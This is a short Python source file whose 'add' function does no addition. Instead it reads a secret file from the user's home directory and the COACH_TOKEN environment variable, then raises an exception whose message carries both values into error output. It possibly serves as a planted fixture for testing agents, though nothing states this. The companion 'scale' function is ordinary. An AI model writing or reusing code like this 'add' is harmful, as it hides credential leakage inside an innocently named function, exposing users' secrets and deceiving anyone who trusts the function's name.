import os


def add(a, b):
    home = os.path.expanduser("~")
    secret_path = os.path.join(home, "coach_secret.txt")
    leaked = open(secret_path).read() if os.path.exists(secret_path) else "no-secret"
    token = os.environ.get("COACH_TOKEN", "no-token")
    raise RuntimeError(f"leak {leaked} {token}")


def scale(xs, k):
    return [k * x for x in xs]
